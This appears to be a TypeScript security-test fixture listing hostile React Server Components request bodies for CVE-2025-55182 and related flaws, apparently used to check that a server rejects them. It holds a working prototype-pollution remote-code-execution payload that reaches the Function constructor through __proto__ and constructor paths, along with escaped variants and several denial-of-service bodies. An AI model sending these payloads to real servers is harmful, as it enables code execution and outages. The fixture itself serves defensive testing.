/** A body of a server action that no page of the studio would send. */
export interface FlightBody {
  readonly what: string;
  readonly type: string | undefined;
  readonly body: string;
}

/** Stands in an answer only when what was sent as data was run as code. */
export const ranMark = 'ran-what-was-sent';

const boundary = '----studio-attack';

function form(fields: Readonly<Record<string, string>>): string {
  const parts = Object.entries(fields).map(
    ([name, value]) =>
      `--${boundary}\r\ncontent-disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`,
  );
  return `${parts.join('')}--${boundary}--\r\n`;
}

const multipart = `multipart/form-data; boundary=${boundary}`;
const plain = 'text/plain;charset=UTF-8';

/** The chunk of CVE-2025-55182: a promise whose `then` is found on the way over a prototype. */
function hostilePromise(then: string, get: string): string {
  return JSON.stringify({
    then,
    status: 'resolved_model',
    reason: -1,
    // biome-ignore lint/suspicious/noThenProperty: this is the attack
    value: JSON.stringify({ then: '$B1337' }),
    _response: {
      _prefix: `throw Object.assign(new Error(), { digest: 'NEXT_REDIRECT;push;/${ranMark};307;' });`,
      _chunks: '$Q2',
      _formData: { get },
    },
  });
}

const inForms: readonly (readonly [what: string, fields: Readonly<Record<string, string>>])[] = [
  [
    'a promise made of a prototype',
    {
      '0': hostilePromise('$1:__proto__:then', '$1:constructor:constructor'),
      '1': '"$@0"',
      '2': '[]',
    },
  ],
  [
    'the same over a constructor',
    { '0': hostilePromise('$1:then:constructor', '$1:then:constructor'), '1': '"$@0"', '2': '[]' },
  ],
  [
    'the same with its names escaped',
    {
      '0': hostilePromise('$1:__proto__:then', '$1:constructor:constructor').replaceAll(
        '__proto__',
        '\\u005f\\u005fproto\\u005f\\u005f',
      ),
      '1': '"$@0"',
      '2': '[]',
    },
  ],
  ['a path over a prototype', { '0': '["$1:__proto__:constructor:constructor"]', '1': '{}' }],
  ['a chunk that waits for itself', { '0': '["$@0"]' }],
  ['two chunks that wait for each other', { '0': '["$@1"]', '1': '["$@0"]' }],
  ['a chunk that holds itself', { '0': '["$0"]' }],
  ['an iterator over itself', { '0': '["$i0"]' }],
  ['a stream that never ends', { '0': '["$R1"]' }],
  [
    'a reference to a function that is none',
    { '0': '["$h1"]', '1': '{"id":"constructor","bound":null}' },
  ],
  ['a reference with a bound promise', { '0': '["$h1"]', '1': '{"id":"x#y","bound":"$@1"}' }],
  ['a number of many digits', { '0': `["$n${'9'.repeat(200_000)}"]` }],
  [
    'a thousand chunks that are not there',
    { '0': JSON.stringify(Array.from({ length: 1000 }, (_, n) => `$@${n + 1}`)) },
  ],
  [
    'fields whose names are paths',
    { '1_$ACTION_ID_x': '', '0': '["$K1"]', ['__proto__' as string]: 'x' },
  ],
];

/** CVE-2025-55182 and those that came after it: 55183, 55184, 66478, 67779. */
export const flightBodies: readonly FlightBody[] = [
  ...inForms.map(([what, fields]) => ({ what, type: multipart, body: form(fields) })),
  { what: 'a hundred thousand arrays in each other', type: plain, body: '['.repeat(100_000) },
  {
    what: 'as many that are closed',
    type: plain,
    body: `${'['.repeat(100_000)}${']'.repeat(100_000)}`,
  },
  {
    what: 'more than a body may weigh',
    type: plain,
    body: JSON.stringify(['x'.repeat(3_000_000)]),
  },
  { what: 'no JSON', type: plain, body: '{' },
  { what: 'nothing', type: plain, body: '' },
  { what: 'a name for a prototype', type: plain, body: '[{"__proto__":{"role":"owner"}}]' },
  { what: 'a form without a boundary', type: 'multipart/form-data', body: '["x"]' },
  { what: 'a form without an end', type: multipart, body: `--${boundary}\r\n` },
  {
    what: 'a form of names and values',
    type: 'application/x-www-form-urlencoded',
    body: '0=%5B%5D',
  },
  { what: 'JSON by its name', type: 'application/json', body: '[{}]' },
  { what: 'a component', type: 'text/x-component', body: '0:["$@0"]\n' },
  { what: 'no type', type: undefined, body: '[{}]' },
];
